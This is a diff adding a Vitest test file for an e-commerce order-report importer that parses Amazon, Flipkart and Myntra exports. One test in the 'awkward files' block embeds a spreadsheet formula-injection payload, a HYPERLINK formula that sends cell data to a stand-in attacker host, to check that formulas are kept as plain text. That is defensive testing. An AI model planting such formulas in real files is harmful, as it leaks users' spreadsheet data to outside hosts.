@@ -1,0 +1,306 @@
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import {
+  emptyMapping,
+  loadRememberedMapping,
+  mappingFits,
+  recognizeLayout,
+  rememberMapping,
+  type ColumnMapping,
+} from './order-report-layouts';
+import { chunkLines, toImportLines } from './order-report-lines';
+import { countOutcomes, newLines, previewRows } from './order-report-preview';
+import { readReportHeaders, readReportRows, ReportFileError } from './order-report-read';
+import { normalizeOrderDate, parseReportNumber } from './order-report-values';
+
+const amazonReport = readFileSync(path.join(import.meta.dirname, '__fixtures__/amazon-order-report.txt'), 'utf8');
+
+/** Reads a report the way the import dialog does: headers, recognised layout, rows. */
+async function readReport(text: string, mapping?: ColumnMapping) {
+  const headers = await readReportHeaders(text);
+  const recognized = recognizeLayout(headers);
+  const rows = await readReportRows(text, mapping ?? recognized?.mapping ?? emptyMapping);
+  return { headers, recognized, rows };
+}
+
+describe('Amazon order report (tab-delimited)', () => {
+  it('is recognised by its headers and mapped without asking', async () => {
+    const { recognized } = await readReport(amazonReport);
+    expect(recognized?.layout.platform).toBe('Amazon');
+    expect(recognized?.mapping).toEqual({
+      external_order_id: 'amazon-order-id',
+      order_date: 'purchase-date',
+      sku: 'sku',
+      quantity: 'quantity',
+      total_amount: 'item-price',
+      status: 'order-status',
+    });
+  });
+
+  it('keeps an order that spans several lines as one line per SKU, item-price as the line total', async () => {
+    const { rows } = await readReport(amazonReport);
+    const { lines } = toImportLines(rows);
+    expect(lines.slice(0, 2)).toEqual([
+      {
+        line: 2,
+        external_order_id: '402-1111111-1111111',
+        order_date: '2026-01-05T10:30:00+00:00',
+        sku: 'KURTA-BLU',
+        quantity: 2,
+        total_amount: 1198,
+      },
+      {
+        line: 3,
+        external_order_id: '402-1111111-1111111',
+        order_date: '2026-01-05T10:30:00+00:00',
+        sku: 'DUP-RED',
+        quantity: 1,
+        total_amount: 499.5,
+      },
+    ]);
+  });
+
+  it('leaves cancelled rows out of the lines sent, and says they are cancelled', async () => {
+    const { rows } = await readReport(amazonReport);
+    expect(rows.find((row) => row.line === 4)).toMatchObject({ status: 'Cancelled', cancelled: true });
+    expect(toImportLines(rows).lines.map((line) => line.line)).toEqual([2, 3, 5, 6]);
+  });
+
+  it('accepts quantity-purchased for quantity', async () => {
+    const report = amazonReport.replace('\tquantity\t', '\tquantity-purchased\t');
+    const { recognized, rows } = await readReport(report);
+    expect(recognized?.mapping.quantity).toBe('quantity-purchased');
+    expect(rows[0]?.quantity).toBe(2);
+  });
+});
+
+describe('Flipkart and Myntra exports', () => {
+  const flipkartOrders = [
+    'Ordered On,Shipment ID,ORDER ITEM ID,Order Id,Order State,Order Type,FSN,SKU,Product,Invoice No.,Invoice Amount,Quantity',
+    '15-01-2026 10:20:30,SH1,OI-1,OD1234567890,Delivered,Prepaid,FSN1,KURTA-BLU,"Cotton Kurta, Blue (L)",INV1,"1,299.00",1',
+    '16/01/2026,SH2,OI-2,OD1234567891,Cancelled,COD,FSN1,KURTA-BLU,"Cotton Kurta, Blue (M)",INV2,"1,299.00",1',
+  ].join('\n');
+
+  it("recognises Flipkart's orders export: quoted commas stay inside their cell, Indian dates are day first", async () => {
+    const { recognized, rows } = await readReport(flipkartOrders);
+    expect(recognized?.layout.platform).toBe('Flipkart');
+    expect(recognized?.layout.name).toBe('Flipkart orders export');
+    expect(rows[0]).toMatchObject({
+      external_order_id: 'OD1234567890',
+      order_date: '2026-01-15T10:20:30+05:30',
+      sku: 'KURTA-BLU',
+      quantity: 1,
+      total_amount: 1299,
+      cancelled: false,
+      unreadable: null,
+    });
+    expect(rows[1]).toMatchObject({ order_date: '2026-01-16', cancelled: true });
+  });
+
+  it("recognises Flipkart's sales report by its Gross Units and Final Selling Price", async () => {
+    const report = [
+      'Order ID,Order Date,SKU,SKU Name,Gross Units,Final Selling Price (incl. seller opted in default offers),Order Status',
+      'OD999,2026-02-01,DUP-RED,Silk Dupatta,3,1498.50,Delivered',
+    ].join('\n');
+    const { recognized, rows } = await readReport(report);
+    expect(recognized?.layout.name).toBe('Flipkart sales report');
+    expect(rows[0]).toMatchObject({ quantity: 3, total_amount: 1498.5, order_date: '2026-02-01' });
+  });
+
+  it("recognises Myntra's seller orders report: one row per unit, folded into one line per order and SKU", async () => {
+    const report = [
+      'order release id,order line id,seller order id,created on,seller sku code,myntra sku code,order status,final amount,total mrp',
+      '7001,L1,S1,2026-03-01 11:00:00,KURTA-BLU,M1,C,649.50,999',
+      '7001,L2,S1,2026-03-01 11:00:00,KURTA-BLU,M1,C,649.60,999',
+      '7002,L3,S2,2026-03-02 12:00:00,DUP-RED,M2,F,300,500',
+    ].join('\n');
+    const { recognized, rows } = await readReport(report);
+    expect(recognized?.layout.platform).toBe('Myntra');
+    expect(recognized?.mapping.quantity).toBeNull();
+    const { lines, mergedInto } = toImportLines(rows);
+    expect(lines).toEqual([
+      {
+        line: 2,
+        external_order_id: '7001',
+        order_date: '2026-03-01T11:00:00+05:30',
+        sku: 'KURTA-BLU',
+        quantity: 2,
+        total_amount: 1299.1,
+      },
+    ]);
+    expect(mergedInto.get(3)).toBe(2);
+    expect(rows[2]?.cancelled).toBe(true);
+  });
+
+  it('a file of another platform is recognised as that platform, and an unknown layout is not guessed', async () => {
+    expect((await readReport(flipkartOrders)).recognized?.layout.platform).not.toBe('Amazon');
+    const unknown = 'Invoice,When,Item,Units,Paid\nA-1,2026-01-01,KURTA-BLU,1,100';
+    expect((await readReport(unknown)).recognized).toBeNull();
+  });
+});
+
+describe('column mapping by hand', () => {
+  afterEach(() => localStorage.clear());
+  const headers = ['Invoice', 'When', 'Item', 'Units', 'Paid', 'State'];
+  const mapping: ColumnMapping = {
+    external_order_id: 'Invoice',
+    order_date: 'When',
+    sku: 'Item',
+    quantity: 'Units',
+    total_amount: 'Paid',
+    status: 'State',
+  };
+
+  it('is remembered per platform and fits only a file with those columns', () => {
+    rememberMapping('Other', mapping);
+    expect(loadRememberedMapping('Other')).toEqual(mapping);
+    expect(loadRememberedMapping('Flipkart')).toBeNull();
+    expect(mappingFits(mapping, headers)).toBe(true);
+    expect(mappingFits(mapping, headers.slice(0, 4))).toBe(false);
+    expect(mappingFits({ ...mapping, sku: null }, headers)).toBe(false);
+    expect(mappingFits({ ...mapping, status: null, quantity: null }, headers)).toBe(true);
+  });
+
+  it('reads the mapped columns of any file', async () => {
+    const { rows } = await readReport('Invoice,When,Item,Units,Paid,State\nA-1,05 Jan 2026,KURTA-BLU,3,₹ 450,ok', mapping);
+    expect(rows).toEqual([
+      {
+        line: 2,
+        external_order_id: 'A-1',
+        order_date: '2026-01-05',
+        sku: 'KURTA-BLU',
+        quantity: 3,
+        total_amount: 450,
+        status: 'ok',
+        cancelled: false,
+        unreadable: null,
+      },
+    ]);
+  });
+
+  it('ignores a remembered mapping the browser kept in another shape', () => {
+    localStorage.setItem('factoryflow:order-import-mapping:Amazon', '{"sku": 5, "order_date": "x"');
+    expect(loadRememberedMapping('Amazon')).toBeNull();
+  });
+});
+
+describe('awkward files', () => {
+  it('a UTF-8 byte order mark and CRLF line ends change nothing', async () => {
+    const report = `\uFEFF${amazonReport.replace(/\n/g, '\r\n')}`;
+    const { headers, recognized, rows } = await readReport(report);
+    expect(headers[0]).toBe('amazon-order-id');
+    expect(recognized?.layout.platform).toBe('Amazon');
+    expect(rows[0]).toMatchObject({ external_order_id: '402-1111111-1111111', total_amount: 1198 });
+    expect(rows.at(-1)?.total_amount).toBe(100);
+  });
+
+  it('a File goes through the same reader', async () => {
+    const file = new File([`\uFEFF${amazonReport}`], 'report.txt', { type: 'text/plain' });
+    expect(recognizeLayout(await readReportHeaders(file))?.layout.platform).toBe('Amazon');
+  });
+
+  it('an empty file is refused with a sentence; a header alone has no rows', async () => {
+    await expect(readReportHeaders('')).rejects.toThrow(new ReportFileError('The file is empty.'));
+    await expect(readReportHeaders('\n\n')).rejects.toThrow('The file is empty.');
+    expect((await readReport(amazonReport.split('\n')[0]!)).rows).toEqual([]);
+  });
+
+  it('a header naming a column twice is refused', async () => {
+    await expect(readReportHeaders('sku,sku,quantity\n1,2,3')).rejects.toThrow(
+      'The first row names a column twice; it must name each column once.',
+    );
+  });
+
+  it('malformed rows are marked unreadable, not guessed at, and the rest still read', async () => {
+    const report = [
+      'Order Id,Ordered On,SKU,Quantity,Invoice Amount,Order State',
+      'OD1,2026-01-01,KURTA-BLU,1,100,Delivered',
+      'OD2,2026-01-02,KURTA-BLU',
+      'OD3,2026-01-03,"KURTA-BLU,1,100,Delivered',
+    ].join('\n');
+    const { rows } = await readReport(report);
+    expect(rows[0]?.unreadable).toBeNull();
+    expect(rows[1]?.unreadable).toBe('This row has 3 columns; the mapped columns need 6.');
+    expect(rows[2]?.unreadable).toBe('This row has a quotation mark that is never closed.');
+    expect(toImportLines(rows).lines.map((line) => line.line)).toEqual([2]);
+  });
+
+  it('formulas in cells are text: =HYPERLINK(...) is kept as written and never evaluated', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const report = `Order Id,Ordered On,SKU,Quantity,Invoice Amount\n"${formula.replace(/"/g, '""')}",2026-01-01,=1+1,1,@SUM(1)`;
+    const { rows } = await readReport(report);
+    expect(rows[0]).toMatchObject({ external_order_id: formula, sku: '=1+1', total_amount: '@SUM(1)' });
+  });
+
+  it('reads a 50 MB report in one pass', { timeout: 60_000 }, async () => {
+    const header = amazonReport.split('\n')[0]!;
+    const row = (n: number) =>
+      `402-${String(n).padStart(7, '0')}-0000001\t\t2026-01-05T10:30:00+00:00\t2026-01-06T08:00:00+00:00\tShipped\tMerchant\tAmazon.in\tCotton Kurta, Blue, a long product name as Amazon writes them\tKURTA-${n % 50}\tB0KURTA001\tShipped\t1\tINR\t${(n % 1000) + 0.5}\t10.00\t0.00`;
+    const parts = [header];
+    let size = header.length;
+    let count = 0;
+    while (size < 50 * 1024 * 1024) {
+      const next = row(count);
+      parts.push(next);
+      size += next.length + 1;
+      count += 1;
+    }
+    const { rows } = await readReport(parts.join('\n'));
+    expect(rows).toHaveLength(count);
+    expect(rows.at(-1)).toMatchObject({ line: count + 1, sku: `KURTA-${(count - 1) % 50}`, total_amount: ((count - 1) % 1000) + 0.5 });
+    expect(chunkLines(toImportLines(rows).lines).map((chunk) => chunk.length)).toEqual([
+      ...Array<number>(Math.floor(count / 10_000)).fill(10_000),
+      count % 10_000,
+    ]);
+  });
+});
+
+describe('the preview', () => {
+  it("gives every row an outcome: the reader's for cancelled and unreadable rows, the server's for the rest", async () => {
+    const report = [
+      'order release id,created on,seller sku code,order status,final amount',
+      '7001,2026-03-01,KURTA-BLU,C,649.50',
+      '7001,2026-03-01,KURTA-BLU,C,649.50',
+      '7002,2026-03-02,DUP-RED,F,300',
+      '7003,2026-03-02,"DUP-RED,C,300',
+    ].join('\n');
+    const { rows } = await readReport(report);
+    const lines = toImportLines(rows);
+    const previews = new Map([[2, { outcome: 'new' as const, message: null, productName: 'Cotton Kurta' }]]);
+    const preview = previewRows(rows, lines, previews);
+    expect(preview.map((row) => [row.line, row.outcome, row.message])).toEqual([
+      [2, 'new', null],
+      [3, 'new', 'Added to row 2 (same order and SKU).'],
+      [4, 'cancelled', null],
+      [5, 'unreadable', 'This row has a quotation mark that is never closed.'],
+    ]);
+    expect(countOutcomes(preview)).toEqual({ new: 2, cancelled: 1, unreadable: 1 });
+    expect(newLines(lines.lines, previews)).toEqual([expect.objectContaining({ line: 2, quantity: 2, total_amount: 1299 })]);
+  });
+});
+
+describe('cell values', () => {
+  it('numbers as reports write them, and text that is not one is kept for the server to refuse', () => {
+    expect(parseReportNumber('1,299.00')).toBe(1299);
+    expect(parseReportNumber(' ₹ 499.5 ')).toBe(499.5);
+    expect(parseReportNumber('INR 10')).toBe(10);
+    expect(parseReportNumber('2.5')).toBe(2.5);
+    expect(parseReportNumber('-3')).toBe(-3);
+    expect(parseReportNumber('')).toBeNull();
+    expect(parseReportNumber('two')).toBe('two');
+    expect(parseReportNumber('1e3')).toBe('1e3');
+  });
+
+  it('dates become ISO 8601, in India’s time when the report gives no zone', () => {
+    expect(normalizeOrderDate('2026-01-05T10:30:00+00:00')).toBe('2026-01-05T10:30:00+00:00');
+    expect(normalizeOrderDate('2026-01-05T10:30:00Z')).toBe('2026-01-05T10:30:00+00:00');
+    expect(normalizeOrderDate('2026-01-05T10:30:00-0800')).toBe('2026-01-05T10:30:00-08:00');
+    expect(normalizeOrderDate('2026-01-05 10:30')).toBe('2026-01-05T10:30:00+05:30');
+    expect(normalizeOrderDate('2026-01-05')).toBe('2026-01-05');
+    expect(normalizeOrderDate('05/01/2026 4:05 pm')).toBe('2026-01-05T16:05:00+05:30');
+    expect(normalizeOrderDate('5-Jan-2026')).toBe('2026-01-05');
+    expect(normalizeOrderDate('Jan 5, 2026 10:00:00')).toBe('2026-01-05T10:00:00+05:30');
+    expect(normalizeOrderDate('yesterday')).toBe('yesterday');
+  });
+});
